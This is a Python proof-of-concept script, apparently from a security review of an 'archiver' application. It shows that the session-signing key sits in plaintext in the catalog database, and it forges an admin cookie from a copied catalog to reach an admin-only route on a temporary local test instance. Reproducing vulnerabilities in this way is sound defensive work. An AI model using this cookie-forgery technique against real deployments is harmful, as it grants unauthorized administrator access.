"""Finding: the key that signs session cookies is kept in plaintext in the catalog (web_secrets), so
whoever can read the catalog alone (a copy of catalog.sqlite3, a PostgreSQL dump or read-only role, a
`store migrate` target) can mint a session cookie for any token name, admin included: a catalog copy
becomes a login. Tokens themselves are kept hashed precisely so that "a copy of the store cannot be used
to log in" (archiver/access.py docstring); the old key file was 0600 and outside the catalog.
This script reads ONLY a copy of the catalog file, forges a cookie, and calls an admin-only route."""
from __future__ import annotations

import base64
import os
import shutil
import sqlite3
import stat
import tempfile
from pathlib import Path

from fastapi.testclient import TestClient

from archiver.access import create_token
from archiver.api import Archive
from archiver.web import create_app
from archiver.web.security import SessionSigner

with tempfile.TemporaryDirectory() as tmp:
    a, _ = Archive.init(Path(tmp) / "store", operator="Review")
    create_token(a, "admin", "admin", actor="tester")
    app = create_app(a, start_jobs=False)  # first start writes the key into the catalog
    cat = a.root / "catalog.sqlite3"
    print("catalog file mode:", oct(stat.S_IMODE(os.stat(cat).st_mode)),
          "| legacy key file exists:", (a.root / "web-secret.key").exists())
    stolen = Path(tmp) / "backup-copy.sqlite3"
    shutil.copy(cat, stolen)  # e.g. a backup of the catalog only
    key = base64.b64decode(sqlite3.connect(stolen).execute(
        "SELECT value FROM web_secrets WHERE name='session'").fetchone()[0])
    cookie, _ = SessionSigner(key, 12).issue("admin")  # no token needed, only the catalog copy
    with TestClient(app, base_url="http://127.0.0.1") as c:
        c.cookies.set("archiver_session", cookie)
        r = c.get("/api/v1/tokens")
        anon = TestClient(app, base_url="http://127.0.0.1").get("/api/v1/tokens")
    app.state.web.runner.shutdown()
    print(f"GET /api/v1/tokens anonymous -> {anon.status_code}; with a cookie forged from the catalog copy -> "
          f"{r.status_code}")
    print("DEFECT: catalog read access = admin session" if r.status_code == 200 else "ok")
